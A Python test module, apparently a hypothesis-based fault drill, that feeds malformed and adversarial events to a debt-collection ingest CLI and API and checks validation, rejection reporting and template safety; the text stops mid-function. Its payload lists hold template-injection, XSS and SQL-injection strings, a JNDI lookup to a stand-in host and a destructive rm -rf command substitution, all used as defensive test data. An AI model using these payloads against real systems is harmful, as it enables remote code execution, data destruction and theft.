"""Fault drill (issue 8), hostile input: a hypothesis-generated stream of malformed and adversarial events through
`starter.py ingest` (the CLI's `main`, with a file) and through `POST /v1/events` (JSON array and JSON lines), on a
real dev server with a real worker; and the templates of every ladder rendered with debtor-supplied template syntax.

The invariants, per generated batch:
- nothing escapes (no exception, no 500); every non-blank line gets exactly one result, in input order;
- a line the contract must refuse is rejected with a non-empty reason, a line it must take is applied;
- the rejects file holds exactly the rejected lines, each with its line number, reason and raw text;
- the exit code is 2 when anything was rejected, else 0;
- every accepted line started, joined, was known or duplicated, exactly as a model of the account predicts, and the
  account's status (the workflow's query) shows exactly the invoices of the accepted lines: nothing of a rejected line,
  never a different amount; an account that only rejected lines named has no workflow at all;
- rendering never evaluates debtor content: it appears verbatim in text, escaped in HTML and Typst, and is never
  compiled as a template.

The inputs that broke these invariants when the drill was first run (a timezone naming a tzdata folder or too
long, an occurred_at at the end of time, absurd nesting, a lone surrogate, raw U+2028 in JSON lines) are pinned by
the regression tests at the end of this module (see `CRASH_CASES`); they stay out of the random stream because
each needs a whole server round trip to check.

The drill's counts (examples, lines, results, rejections and acceptances by kind) are printed on the terminal once
the module is done.
"""

import contextlib
import io
import json
import time
import uuid
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any, Literal

import markupsafe
import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from temporalio.client import Client, WorkflowExecutionStatus
from temporalio.service import RPCError, RPCStatusCode
from temporalio.testing import WorkflowEnvironment

import starter
from activities.rendering import LETTER_SUFFIX, Renderer, typst_text
from domain.account import AccountState
from domain.actions import ActionRequest
from domain.events import InvoiceOverdue
from domain.kinds import ActionKind
from domain.policy_book import PolicyBook
from domain.status import AccountStatus
from edge.ingest import IngestReport
from tests.api import conftest as api_conftest
from tests.api.conftest import Api
from tests.domain.simulate import simulate
from tests.factories import event_dict, example_renderer
from workflows import STATUS, workflow_id

pytestmark = pytest.mark.drill

# The API tests' fixtures: a task queue of its own, the worker on it (with its SQLite store), the app in-process.
queue, worker, store, api = api_conftest.queue, api_conftest.worker, api_conftest.store, api_conftest.api

TOKEN = "ACCTOKEN"  # stands for the account ids' prefix in generated lines; each example replaces it with a fresh one
NOW = datetime.now(UTC).replace(microsecond=0)  # events occur now: the accounts open 1 day past due (one SMS)
HUGE = 100_000  # characters of a "huge" string
BOOK = PolicyBook()

Verdict = Literal["accept", "reject", "either"]  # what the contract says must become of a line
FieldPath = tuple[str, ...]

# --- the hostile material ---------------------------------------------------------------------------------------

INJECTIONS = (
    "{{ 7*7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ self.__init__.__globals__ }}",
    "{{ config.items() }}",
    "{% raw %}",
    "{{",
    "{#",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE invoices; --",
    "1' OR '1'='1",
    "${jndi:ldap://evil.example/a}",
    "$(rm -rf /)",
    "%s%s%s%n",
    "../../etc/passwd",
    "&amp;&lt;",
)
UNICODE = (
    "\u202eevil\u202c",  # right-to-left override
    "zero\u200bwidth\u200djoin",
    "💸🧾👨‍👩‍👧",
    "e\u0301\u0301\u0301",  # stacked combining marks
    "上海明达",
    "\ufeffbom",
    "Ω≈ç√∫",
)
# Control characters (and Unicode's line separators) in a one-line text: refused since issue 13 (a NUL failed every
# activity on PostgreSQL, an escape sequence cleared the operator's terminal).
CONTROLS = (
    "nul\x00byte",
    "bell\x07",
    "\x1b[31mred",
    "\x1b[2Jclear",
    "tab\tand",
    "line\nbreak",
    "\u2028sep\u2029",  # raw in a JSON line unless ASCII-escaped: see test_json_lines_split_only_at_newlines
    "nel\x85",
)
PAYLOADS = INJECTIONS + UNICODE

# Characters that end a line for `str.splitlines` (the API's JSON lines) or for universal newlines (the file):
# a garbage line holds none of them, so that it stays one line in every sink.
LINE_BREAKS = "\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"
GARBAGE = (
    "not json at all",
    "{",
    "}{",
    '{"event_id": "e1", "type": "invoice.overdue"',
    "{'single': 'quotes'}",
    "<?xml version='1.0'?><event/>",
    "DROP TABLE invoices;",
    "{{ 7*7 }}",
    "\x00\x01\x02",
    "NaN",
    "null",
    "true",
    "123",
    '"just a string"',
    "[]",
    "{}",
)
BLANKS = ("", "   ", "\t")

VALID_MONEY = (
    ("CNY", "12000.00"),
    ("CNY", "0.01"),
    ("USD", "4250.5"),
    ("JPY", "5000"),
    ("KWD", "1.234"),
    ("EUR", "999999999999999999.99"),  # the largest amount the contract takes
    ("CNY", " 77.00 "),  # surrounding spaces are stripped
)
TIMEZONES = ("UTC", "Asia/Shanghai", "America/Los_Angeles", "Pacific/Kiritimati")

# --- the mutations: set a field to a value, with the contract's verdict -------------------------------------------

REQUIRED_TEXT: tuple[FieldPath, ...] = (
    ("event_id",),
    ("type",),
    ("account_id",),
    ("debtor", "name"),
    ("debtor", "timezone"),
    ("debtor", "locale"),
    ("invoice", "invoice_id"),
    ("invoice", "currency"),
)
OPTIONAL_TEXT: tuple[FieldPath, ...] = (("debtor", "phone"), ("debtor", "email"), ("invoice", "contract_ref"))
IDS: tuple[FieldPath, ...] = (("event_id",), ("account_id",), ("invoice", "invoice_id"), ("debtor", "segment"))
DATES: tuple[FieldPath, ...] = (("occurred_at",), ("invoice", "due_date"))
AMOUNT: FieldPath = ("invoice", "amount")
WRONG_TYPES: tuple[Any, ...] = (123, -1.5, True, [], {}, ["a"], {"$ne": None})
NO_DATES: tuple[Any, ...] = (True, [], {}, 1.5, None, "yesterday", "2026-02-30", "2026-11-25T10:00:00")  # no tz


@dataclass(frozen=True)
class Mutation:
    kind: str
    path: FieldPath
    value: Any  # DELETE: remove the field
    verdict: Verdict


DELETE = object()


def _mutations() -> tuple[Mutation, ...]:
    found: list[Mutation] = []

    def add(kind: str, paths: tuple[FieldPath, ...], values: tuple[Any, ...], verdict: Verdict) -> None:
        found.extend(Mutation(kind, path, value, verdict) for path in paths for value in values)

    huge_strings = ("x" * HUGE, "9" * HUGE, "{{ 7*7 }}" * (HUGE // 9), "💸" * HUGE, " " * HUGE)
    add("wrong_type", (*REQUIRED_TEXT, ("debtor", "segment")), (*WRONG_TYPES, None), "reject")
    add("wrong_type", OPTIONAL_TEXT, WRONG_TYPES, "reject")
    add("wrong_type", (("debtor",), ("invoice",)), ("x", 1, [], None, True, [{}]), "reject")
    add("wrong_type", DATES, NO_DATES, "reject")
    add("missing", (*REQUIRED_TEXT, AMOUNT, *DATES, ("debtor",), ("invoice",)), (DELETE,), "reject")
    add("missing", (*OPTIONAL_TEXT, ("debtor", "segment")), (DELETE,), "accept")
    add("optional_null", OPTIONAL_TEXT, (None,), "accept")
    # A huge timezone crashes validation today (CRASH_CASES): every other text field.
    huge_paths = (*(p for p in REQUIRED_TEXT if p != ("debtor", "timezone")), *OPTIONAL_TEXT, *IDS, AMOUNT, *DATES)
    add("huge", huge_paths, huge_strings[:-1], "reject")
    # Only blanks: stripped to nothing, which an optional contract reference may be (an empty reference).
    add("huge", tuple(p for p in huge_paths if p != ("invoice", "contract_ref")), huge_strings[-1:], "reject")
    add("huge", (("x_note",), ("debtor", "x_note"), ("invoice", "x_note")), huge_strings, "accept")  # ignored
    add("bad_id", IDS, tuple(f"ID-{p}-1" for p in PAYLOADS + CONTROLS), "reject")  # inside: ends are stripped
    add("control", (("debtor", "name"), ("invoice", "contract_ref")), tuple(f"x {c} y" for c in CONTROLS), "reject")
    add("boundary", (("debtor", "name"),), ("n" * 200,), "accept")
    add("boundary", (("debtor", "name"),), ("n" * 201, "   "), "reject")
    add("boundary", (("invoice", "contract_ref"),), ("c" * 101,), "reject")
    add(
        "bad_amount",
        (AMOUNT,),
        ("-12.00", "0", "0.00", "-0", "1.00001", "NaN", "nan", "1e9999", "1E3", "Infinity"),
        "reject",
    )
    add("bad_amount", (AMOUNT,), ("-Infinity", "0x10", "1,000.00", "12 000", "5.", ".5", "+5.00", "", "   "), "reject")
    add("bad_amount", (AMOUNT,), ("1234567890123456789", "12.00 CNY", "¥12", "1.0000001", "5.00\u200b"), "reject")
    add("amount_number", (AMOUNT,), (12000, 12000.5, 1e400, float("nan"), -5), "reject")  # JSON numbers
    add("odd_digits", (AMOUNT,), ("١٢٣", "１２３"), "either")  # non-ASCII digits: Decimal reads them right
    add(
        "bad_currency", (("invoice", "currency"),), ("XYZ", "cny", "", "C N Y", "EURO", "¥", "$", "CNY\u200b"), "reject"
    )
    odd_zones = (*PAYLOADS, *CONTROLS, "Mars/Olympus", "/etc/passwd", "", "UTC\x00")
    add("bad_timezone", (("debtor", "timezone"),), odd_zones, "reject")
    add(
        "bad_timezone",
        (("debtor", "timezone"),),
        ("Asia/上海", "+08:00", "America/New York", "Asia/Shanghai/x"),
        "reject",
    )
    address = ("debtor", "address")
    add("missing", (address,), (DELETE, None), "accept")  # letters are then skipped, "no address on file"
    add("bad_address", (address,), ("Nanjing Road 1", ["a"], {}, {"lines": [], "city": "x", "country": "CN"},
        {"lines": ["a"], "city": "x", "country": "XX"}, {"lines": ["a"], "city": "x", "country": "CN", "zip": "1"},
        {"lines": ["a\x00"], "city": "x", "country": "CN"}, {"lines": ["a"] * 5, "city": "x", "country": "CN"}),
        "reject")  # fmt: skip
    add("bad_locale", (("debtor", "locale"),), ("fr", "EN", "zh_CN", "zh-cn", "", "en-US", "{{ 7*7 }}"), "reject")
    add("bad_segment", (("debtor", "segment"),), ("gold", "standard\u200b", "../standard"), "reject")
    add("bad_type", (("type",),), ("invoice.settled", "", "INVOICE.OVERDUE", "invoice.overdue\x00"), "reject")
    add("bad_contact", (("debtor", "phone"),), ("13800000000", "+0123456", "+1 (555) 0100", "{{ 7*7 }}"), "reject")
    add(
        "bad_contact",
        (("debtor", "email"),),
        ("not-an-email", "<script>@x.example", "a@b", "x@{{7*7}}.example"),
        "reject",
    )
    add("odd_contact", (("debtor", "email"),), ("{{7*7}}@x.example",), "either")  # RFC 5322 allows { } * there
    add("bad_date", (("invoice", "due_date"),), ("2999-01-01", "9999-12-30"), "reject")  # not overdue yet
    # Past the longest limitation period (20 years before the event), or before 1970: refused since issue 13.
    # NOW's date in the debtors' timezones (UTC-8 to UTC+14) is within a day of its UTC date.
    twenty_years = NOW.date().replace(year=NOW.year - 20)
    too_old, old = (twenty_years + timedelta(days=d) for d in (-2, 2))
    add("ancient_due", (("invoice", "due_date"),), ("0001-01-01", "1970-01-01", too_old.isoformat()), "reject")
    add("old_due", (("invoice", "due_date"),), (old.isoformat(),), "accept")  # time-barred: the ladder skips to legal
    far = ("9999-12-31T00:00:00Z", "9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00Z", "2101-01-01T00:00:00Z",
           (NOW + timedelta(days=2)).isoformat())  # fmt: skip
    add("far_date", (("occurred_at",),), far, "reject")
    extras: tuple[Any, ...] = ({"admin": True}, {"$where": "1==1"}, "{{ 7*7 }}", nested(40), nested(100, "a"), None)
    add(
        "extra_field",
        (("__proto__",), ("constructor",), ("debtor", "is_admin"), ("invoice", "status")),
        extras,
        "accept",
    )
    add("deep_nesting", (("x_deep",),), (nested(300), nested(300, "a")), "either")  # past the parser's limit
    interest = ({"daily_rate": "0.0005"}, {"reference_rate": "0.03", "reference_name": "{{ 7*7 }}"})
    add("interest", (("invoice", "interest"),), interest, "accept")
    bad_interest = ({"daily_rate": "NaN"}, {"daily_rate": "-1"}, {"foo": 1}, {"reference_name": "x" * 41},
                    {"daily_rate": "1e-999990"}, {"daily_rate": "0.00000000001"}, {"reference_rate": "0.03",
                    "multiple": "1e-999990"}, {"daily_rate": "0.0005", "reference_name": "LPR\x00"})  # fmt: skip
    add("bad_interest", (("invoice", "interest"),), bad_interest, "reject")
    return tuple(found)


def nested(depth: int, key: str | None = None) -> Any:
    """A JSON value nested `depth` deep: lists, or objects under `key`."""
    value: Any = []
    for _ in range(depth - 1):
        value = {key: value} if key else [value]
    return value


MUTATIONS = _mutations()
# Drawn by kind first, so that the dozens of wrong types do not crowd out the few bad currencies.
BY_KIND: dict[str, tuple[Mutation, ...]] = {
    kind: tuple(m for m in MUTATIONS if m.kind == kind) for kind in dict.fromkeys(m.kind for m in MUTATIONS)
}
NOT_OBJECTS: tuple[Any, ...] = ([], [1, 2], 123, "an event", None, True)


# --- generated lines ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Spec:
    """One generated input line, what the contract says must become of it, and how to write it."""

    kind: str
    verdict: Verdict
    data: Any = None  # the JSON value of the line (None with `garbage`)
    garbage: str | None = None  # a line that is not JSON (or a blank line), written as is
    duplicate_key: tuple[FieldPath, Any] | None = None  # written first, before the field's value in `data`

    def render(self, prefix: str, ascii_only: bool = False) -> str:
        """The line as sent, with this example's account prefix."""
        if self.garbage is not None:
            return self.garbage
        text = json.dumps(self.data, ensure_ascii=ascii_only)
        if self.duplicate_key:
            path, first = self.duplicate_key
            last = json.dumps(path[-1]) + ": " + json.dumps(_get(self.data, path), ensure_ascii=ascii_only)
            assert text.count(last) == 1, f"cannot place a duplicate key at {path} in {text[:200]}"
            dup = json.dumps(path[-1]) + ": " + json.dumps(first, ensure_ascii=ascii_only)
            text = text.replace(last, f"{dup}, {last}")
        return text.replace(TOKEN, prefix)

    def __repr__(self) -> str:  # hypothesis prints failing batches: keep 100 KB strings out of them
        line = self.render(TOKEN)
        shown = line if len(line) <= 400 else f"{line[:400]}... ({len(line)} characters)"
        return f"Spec({self.kind!r}, {self.verdict!r}, {shown!r})"

    @property
    def blank(self) -> bool:
        return self.garbage is not None and not self.garbage.strip()

    def account(self, prefix: str) -> str | None:
        """The account the line names, when it is one of this example's accounts."""
        if isinstance(self.data, dict) and isinstance(self.data.get("account_id"), str):
            account: str = self.data["account_id"]
            if account.startswith(TOKEN + "-"):
                return account.replace(TOKEN, prefix)
        return None


def _get(data: Any, path: FieldPath) -> Any:
    for key in path:
        data = data[key]
    return data


def _set(data: dict, path: FieldPath, value: Any) -> None:
    for key in path[:-1]:
        if not isinstance(data.get(key), dict):
            return  # the parent itself was mutated away
        data = data[key]
    if value is DELETE:
        data.pop(path[-1], None)
    else:
        data[path[-1]] = value


@st.composite
def base_event(draw: st.DrawFn, account: str, number: int) -> dict:
    """A valid event whose debtor name and contract reference may carry any hostile payload (they are free text)."""
    currency, amount = draw(st.sampled_from(VALID_MONEY))
    timezone = draw(st.sampled_from(TIMEZONES))
    payload = draw(st.sampled_from(PAYLOADS))
    name = draw(st.sampled_from(("上海明达贸易有限公司", "Harbor Supplies Ltd", f"Debtor {payload} Ltd")))
    data = event_dict(
        account_id=account,
        event_id=f"E{number}",
        invoice_id=f"INV-{number}",
        amount=amount,
        currency=currency,
        occurred_at=NOW,
        timezone=timezone,
        locale=draw(st.sampled_from(("en", "zh-CN"))),
        name=name,
    )
    data["invoice"]["contract_ref"] = draw(st.sampled_from((None, "C-2026-001", f"C-{payload}-1")))
    return data


def _garbage_text() -> st.SearchStrategy[str]:
    chars = st.characters(exclude_categories=("Cs",), exclude_characters=LINE_BREAKS)
    return st.sampled_from(GARBAGE) | st.text(chars, min_size=1, max_size=40)


KINDS = ("valid", "mutation", "mutation", "mutation", "duplicate_key", "not_object", "garbage", "blank", "redelivery")


@st.composite
def batches(draw: st.DrawFn) -> list[Spec]:
    """5 to 15 lines over 1 to 3 accounts, at least one of them valid; redeliveries and second invoices included."""
    size = draw(st.integers(5, 15))
    accounts = draw(st.integers(1, 3))
    surely_valid = draw(st.integers(0, size - 1))
    specs: list[Spec] = []
    valid: list[dict] = []  # earlier valid events, for redeliveries
    for number in range(1, size + 1):
        data = draw(base_event(f"{TOKEN}-{draw(st.integers(0, accounts - 1))}", number))
        kind = "valid" if number - 1 == surely_valid else draw(st.sampled_from(KINDS))
        if kind == "redelivery" and not valid:
            kind = "valid"
        if kind == "valid":
            valid.append(data)
            specs.append(Spec("valid", "accept", data))
        elif kind == "mutation":
            mutation = draw(st.sampled_from(BY_KIND[draw(st.sampled_from(sorted(BY_KIND)))]))
            _set(data, mutation.path, mutation.value)
            specs.append(Spec(mutation.kind, mutation.verdict, data))
        elif kind == "duplicate_key":
            # JSON says nothing of duplicated keys; Python's json and pydantic both keep the last, so the last decides.
            path, bad = draw(st.sampled_from(((AMOUNT, "-1.00"), (("event_id",), "no such id"), (("type",), "x"))))
            if draw(st.booleans()):
                specs.append(Spec("duplicate_key", "accept", data, duplicate_key=(path, bad)))
            else:
                first = _get(data, path)
                _set(data, path, bad)
                specs.append(Spec("duplicate_key", "reject", data, duplicate_key=(path, first)))
        elif kind == "not_object":
            value = draw(st.sampled_from(NOT_OBJECTS))
            specs.append(Spec("not_object", "reject", [data] if value == [] else value))  # [event] is no event
        elif kind == "garbage":
            specs.append(Spec("garbage", "reject", garbage=draw(_garbage_text())))
        elif kind == "blank":
            specs.append(Spec("blank", "either", garbage=draw(st.sampled_from(BLANKS))))
        else:  # a redelivery: the same event again, or its invoice or its id with a different amount
            again = json.loads(json.dumps(draw(st.sampled_from(valid))))
            how = draw(st.sampled_from(("same", "same_event_other_amount", "same_invoice_other_event")))
            if how != "same":
                again["invoice"]["amount"], again["invoice"]["currency"] = "1.00", "USD"
            if how == "same_invoice_other_event":
                again["event_id"] = f"E{number}"
            # An event id reused for other content is a conflict (issue 13), refused with its reason.
            specs.append(Spec(f"redelivery_{how}", "reject" if how == "same_event_other_amount" else "accept", again))
    return specs


# --- the expected outcome of a batch -----------------------------------------------------------------------------


@dataclass
class Invoice:
    amount: Decimal
    currency: str
    contract_ref: str | None


@dataclass
class Account:
    """What the accepted lines must have made of one account, replayed from the contract's rules."""

    events: set[str] = field(default_factory=set)
    invoices: dict[str, Invoice] = field(default_factory=dict)
    debtor_name: str = ""

    def apply(self, event: dict) -> str:
        """`started`, `joined`, `duplicate` (the event id seen before) or `known` (a new event for an invoice already
        on the account)."""
        invoice = event["invoice"]
        if event["event_id"] in self.events:
            return "duplicate"
        if invoice["invoice_id"] in self.invoices:
            self.events.add(event["event_id"])
            return "known"
        outcome = "joined" if self.invoices else "started"
        self.events.add(event["event_id"])
        self.invoices[invoice["invoice_id"]] = Invoice(
            Decimal(invoice["amount"].strip()), invoice["currency"], invoice.get("contract_ref")
        )
        # A joining event does not change the debtor's name: a differing one is a conflict for a supervisor.
        self.debtor_name = self.debtor_name or event["debtor"]["name"]
        return outcome


@dataclass
class Outcome:
    """One line's result as a sink reports it: its number, the result kind, and the reason of a rejection."""

    line: int
    result: str
    reason: str | None = None


@dataclass
class Tally:
    """One drill test's counts over every example hypothesis ran, for the report."""

    name: str
    examples: int = 0
    lines: int = 0
    blank: int = 0
    results: Counter[str] = field(default_factory=Counter)
    rejected_by_kind: Counter[str] = field(default_factory=Counter)
    accepted_by_kind: Counter[str] = field(default_factory=Counter)
    hostile_text_accepted: int = 0  # accepted lines whose debtor name or contract reference carries a payload
    first: float | None = None  # when the first example ended, and the last
    last: float = 0.0

    def count(self, specs: list[Spec]) -> None:
        """One example passed."""
        self.examples += 1
        self.lines += len(specs)
        self.blank += sum(spec.blank for spec in specs)
        self.last = time.monotonic()
        self.first = self.first or self.last

    def summary(self) -> str:
        results = ", ".join(f"{count} {kind}" for kind, count in sorted(self.results.items()))
        if not self.lines:  # the template drill: renderings, no lines
            return f"drill {self.name}: {self.examples} examples; {results}"
        rejected = ", ".join(f"{kind} {count}" for kind, count in self.rejected_by_kind.most_common())
        accepted = ", ".join(f"{kind} {count}" for kind, count in self.accepted_by_kind.most_common())
        return (
            f"drill {self.name}: {self.examples} examples in {self.last - (self.first or self.last):.1f}s, "
            f"{self.lines} lines ({self.blank} blank); results: {results}\n"
            f"  rejected by kind: {rejected}\n  accepted by kind: {accepted}\n"
            f"  accepted with injection or unicode payloads in debtor name or contract: {self.hostile_text_accepted}"
        )


@pytest.fixture(scope="module", autouse=True)
def drill_counts(request: pytest.FixtureRequest) -> Iterator[None]:
    """The counts of the drill tests that ran, on the terminal once the module is done (no -s needed)."""
    yield
    summaries = [tally.summary() for tally in (CLI_TALLY, API_TALLY, TEMPLATE_TALLY) if tally.examples]
    capture = request.config.pluginmanager.get_plugin("capturemanager")
    with capture.global_and_fixture_disabled() if capture else contextlib.nullcontext():
        print("\n" + "\n".join(summaries))


StatusOf = Callable[[str], Awaitable[tuple[str | None, dict[str, Invoice]] | None]]


async def check_batch(
    specs: list[Spec], numbers: list[int], outcomes: list[Outcome], prefix: str, status_of: StatusOf, tally: Tally
) -> None:
    """The invariants every sink shares. `numbers` are the line numbers of `specs` as the sink counts them."""
    sent = [(number, spec) for number, spec in zip(numbers, specs, strict=True) if not spec.blank]
    assert [o.line for o in outcomes] == [number for number, _ in sent], "every non-blank line, one result, in order"
    model: dict[str, Account] = {}
    touched: set[str] = set()
    for outcome, (number, spec) in zip(outcomes, sent, strict=True):
        where = f"line {number} ({spec.kind}): {spec.render(prefix)[:300]!r} -> {outcome}"
        tally.results[outcome.result] += 1
        if account := spec.account(prefix):
            touched.add(account)
        if outcome.result == "rejected":
            assert spec.verdict != "accept", f"the contract takes this line: {where}"
            assert outcome.reason and outcome.reason.strip(), f"a rejection needs its reason: {where}"
            tally.rejected_by_kind[spec.kind] += 1
            continue
        assert spec.verdict != "reject", f"the contract refuses this line: {where}"
        assert account is not None, f"only lines naming one of our accounts can be accepted: {where}"
        expected = model.setdefault(account, Account()).apply(spec.data)
        assert outcome.result == expected, f"expected {expected}: {where}"
        tally.accepted_by_kind[spec.kind] += 1
        free_text = f"{spec.data['debtor']['name']} {spec.data['invoice'].get('contract_ref')}"
        tally.hostile_text_accepted += any(payload in free_text for payload in PAYLOADS)
    # What the workflows hold: exactly the accepted invoices, and nothing at all for an account no line applied to.
    for account in sorted(touched):
        status = await status_of(account)
        if account not in model:
            assert status is None, f"{account} only had rejected lines, yet it has a workflow: {status}"
            continue
        assert status is not None, f"{account} had accepted lines but has no workflow"
        name, invoices = status
        assert invoices == model[account].invoices, f"{account}: the workflow's invoices are not the accepted ones"
        assert name == model[account].debtor_name, f"{account}: debtor name changed on the way: {name!r}"


def invoices_of(lines: list[Any]) -> dict[str, Invoice]:
    """The status's invoices (query models or API JSON) in the model's terms."""
    found: dict[str, Invoice] = {}
    for line in lines:
        item = line if isinstance(line, dict) else line.model_dump()
        found[item["invoice_id"]] = Invoice(Decimal(str(item["amount"])), item["currency"], item["contract_ref"])
    return found


async def terminate(client: Client, accounts: list[str]) -> None:
    for account in accounts:
        handle = client.get_workflow_handle(workflow_id(account))
        with contextlib.suppress(RPCError):
            if (await handle.describe()).status == WorkflowExecutionStatus.RUNNING:
                await handle.terminate("drill over")


DRILL_SETTINGS = settings(
    max_examples=40,
    deadline=None,  # each example talks to a real server
    database=None,  # nothing written into the working tree; failures print their reproduction blob
    print_blob=True,
    # One dev server, worker and app serve every example (fresh account ids keep examples apart).
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
# Against the server, no shrinking: it replays batches for minutes, and a failing batch (15 lines at most, the failing
# line named in the message) is already small enough to read.
SERVER_SETTINGS = settings(DRILL_SETTINGS, phases=[Phase.explicit, Phase.generate])


# --- 1. through `starter.py ingest` ------------------------------------------------------------------------------


@pytest.fixture
def recorded_reports(monkeypatch: pytest.MonkeyPatch) -> list[IngestReport]:
    """The report of every `edge.ingest.ingest` run, as `cmd_ingest` got it (the per-line results it printed)."""
    reports: list[IngestReport] = []
    real = starter.ingest

    async def recording(*args: Any, **kwargs: Any) -> IngestReport:
        report = await real(*args, **kwargs)
        reports.append(report)
        return report

    monkeypatch.setattr(starter, "ingest", recording)
    return reports


@contextlib.contextmanager
def strict_stdout() -> Iterator[io.BytesIO]:
    """Standard output as a process has it: UTF-8, strict (pytest's capture takes what a real stdout refuses)."""
    raw = io.BytesIO()
    stream = io.TextIOWrapper(raw, encoding="utf-8", errors="strict", write_through=True)
    try:
        with contextlib.redirect_stdout(stream):
            yield raw
    finally:
        stream.detach()  # else the wrapper closes the bytes when it goes


CLI_TALLY = Tally("starter.py ingest")


@pytest.mark.integration
@SERVER_SETTINGS
@given(specs=batches())
async def test_hostile_lines_through_starter_ingest(
    specs: list[Spec],
    dev_env: WorkflowEnvironment,
    worker: Path,
    tmp_path: Path,
    recorded_reports: list[IngestReport],
) -> None:
    prefix = f"H{uuid.uuid4().hex[:10]}"
    source = tmp_path / f"{prefix}.jsonl"
    raws = [spec.render(prefix) for spec in specs]
    source.write_text("".join(raw + "\n" for raw in raws), encoding="utf-8")
    runs = len(recorded_reports)

    try:
        with strict_stdout() as output:
            code = await starter.main(["ingest", str(source)], client=dev_env.client)

        out = output.getvalue().decode("utf-8")
        assert len(recorded_reports) == runs + 1, "cmd_ingest ran ingest once"
        report = recorded_reports[-1]
        sent = [raw for raw, spec in zip(raws, specs, strict=True) if not spec.blank]
        assert [line.raw for line in report.lines] == sent, "each line read whole, blank lines skipped"
        outcomes = [
            Outcome(line.number, line.result.split(":")[0].split(" ")[0], line.result.partition(": ")[2] or None)
            for line in report.lines
        ]
        rejected = [line for line in report.lines if line.result.startswith("rejected: ")]
        assert code == (starter.EXIT_REJECTED if rejected else 0), out[-500:]
        # The rejects file: exactly the rejected lines, with number, reason and the raw line.
        rejects = source.with_name(f"{prefix}.rejects.jsonl")
        assert rejects.exists() == bool(rejected), "the rejects file is written when anything was rejected"
        if rejected:
            # JSON lines end at "\n" only: a raw U+2028 inside a string is no line break (str.splitlines says it is).
            written = [json.loads(line) for line in rejects.read_text(encoding="utf-8").split("\n")[:-1]]
            assert written == [
                {"line": line.number, "reason": line.result.removeprefix("rejected: "), "raw": line.raw}
                for line in rejected
            ]
        printed = out.split("\n")
        assert sum(line.startswith("line ") for line in printed) == len(sent), "one printed result per line"
        assert printed[-2].startswith(report.summary()), "the summary closes the output"

        async def status_of(account: str) -> tuple[str | None, dict[str, Invoice]] | None:
            handle = dev_env.client.get_workflow_handle(workflow_id(account))
            try:
                status = await handle.query(STATUS, datetime.now(UTC), result_type=AccountStatus)
            except RPCError as error:
                assert error.status == RPCStatusCode.NOT_FOUND, error
                return None
            return status.debtor_name, invoices_of(status.invoices)

        await check_batch(specs, list(range(1, len(specs) + 1)), outcomes, prefix, status_of, CLI_TALLY)
    finally:
        await terminate(dev_env.client, sorted({a for s in specs if (a := s.account(prefix))}))
    CLI_TALLY.count(specs)


# --- 2. through `POST /v1/events` --------------------------------------------------------------------------------

API_TALLY = Tally("POST /v1/events")


@pytest.mark.integration
@SERVER_SETTINGS
@given(specs=batches(), as_json_lines=st.booleans())
async def test_hostile_events_through_the_api(specs: list[Spec], as_json_lines: bool, api: Api) -> None:
    prefix = f"P{uuid.uuid4().hex[:10]}"
    api.opened.extend(sorted({a for s in specs if (a := s.account(prefix))}))  # terminated at the end
    if as_json_lines:
        # ASCII-escaped: raw U+2028/U+2029/U+0085 split a line in the API today (test_json_lines_split_...).
        body = "".join(spec.render(prefix, ascii_only=True) + "\n" for spec in specs)
        numbers = list(range(1, len(specs) + 1))
        response = await api.post(
            "/v1/events", "ops", content=body.encode(), headers={"Content-Type": "application/x-ndjson"}
        )
    else:
        # An array holds JSON values: a garbage line goes as a string, a blank one not at all.
        members = [_member(spec.render(prefix)) for spec in specs if not spec.blank]
        numbers, position = [], 0
        for spec in specs:
            position += not spec.blank
            numbers.append(position)
        response = await api.post(
            "/v1/events", "ops", content=json.dumps(members).encode(), headers={"Content-Type": "application/json"}
        )

    assert response.status_code == 200, response.text[:1000]  # per-event results: never a 4xx/5xx for the batch
    results = response.json()
    outcomes = [Outcome(r["line"], r["result"], r["reason"]) for r in results]
    sent = [spec for spec in specs if not spec.blank]
    for result, spec in zip(results, sent, strict=False):
        if result["result"] != "rejected":  # an applied event is reported under its own ids
            assert (result["event_id"], result["account_id"]) == (spec.data["event_id"], spec.account(prefix))

    async def status_of(account: str) -> tuple[str | None, dict[str, Invoice]] | None:
        reply = await api.get(f"/v1/accounts/{account}")
        if reply.status_code == 404:
            return None
        assert reply.status_code == 200, reply.text[:500]
        status = reply.json()
        return status["debtor_name"], invoices_of(status["invoices"])

    await check_batch(specs, numbers, outcomes, prefix, status_of, API_TALLY)
    API_TALLY.count(specs)


def _member(raw: str) -> Any:
    """A line as a member of a JSON array: its JSON value, or the line as a string when it is not JSON."""
    try:
        return json.loads(raw)
    except ValueError:
        return raw


# --- 3. template safety ------------------------------------------------------------------------------------------

OPEN, CLOSE = "⟦", "⟧"  # around debtor content, to find it in what the templates make of it
TEXT_PARTS = {
    ActionKind.SMS: [("sms", ".txt.j2", None)],
    ActionKind.INSTALLMENT_SMS: [("sms", ".txt.j2", None)],
    ActionKind.EMAIL: [("email", ".j2", "subject"), ("email", ".j2", "text"), ("email", ".j2", "html")],
    ActionKind.INSTALLMENT_EMAIL: [("email", ".j2", "subject"), ("email", ".j2", "text"), ("email", ".j2", "html")],
    ActionKind.DEMAND_LETTER: [("letters", LETTER_SUFFIX, None)],
    ActionKind.FINAL_NOTICE: [("letters", LETTER_SUFFIX, None)],
    ActionKind.LAWYER_LETTER: [("letters", LETTER_SUFFIX, None)],
}  # every other action is a staff task: tasks/en/<template>.txt.j2 (as activities/collection.py renders them)


def verbatim(text: str) -> str:
    return text


def render_all(renderer: Renderer, request: ActionRequest) -> Iterator[tuple[str, Callable[[str], str], str]]:
    """Every part the activity would render for the request: (what, how it escapes debtor content, the text)."""
    for folder, suffix, block in TEXT_PARTS.get(request.action, [("tasks", ".txt.j2", None)]):
        what = f"{folder}/{request.template}{suffix}"
        if block:
            escape = (lambda text: str(markupsafe.escape(text))) if block == "html" else verbatim
